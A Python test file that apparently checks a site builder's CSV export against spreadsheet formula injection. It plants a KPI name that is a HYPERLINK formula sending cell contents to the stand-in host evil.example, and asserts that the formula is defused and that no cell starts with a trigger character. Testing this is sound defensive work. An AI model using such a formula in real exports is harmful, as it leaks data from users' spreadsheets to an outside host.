"""The downloads as a real build writes them: what a reader opens in a spreadsheet."""

from __future__ import annotations

import csv
import io

from support import FIXTURES, build, make_project

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Instagram followers")'


def test_a_kpi_name_that_looks_like_a_formula_is_plain_text_in_the_built_csv(tmp_path):
    text = (FIXTURES / "valid" / "contract-example.yml").read_text(encoding="utf-8")
    assert "    name: Instagram followers\n" in text
    hostile = text.replace("    name: Instagram followers\n", f"    name: '{FORMULA}'\n")
    site = build(make_project(tmp_path / "p", {"bakery": hostile}))
    data = (site / "clients" / "bakery" / "kpis.csv").read_bytes()
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[0]["name"] == "'" + FORMULA  # kept whole, but a spreadsheet shows it as text, never runs it
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
    assert rows[0]["baseline"] == "1200" and rows[0]["progress"] == "0,1625"
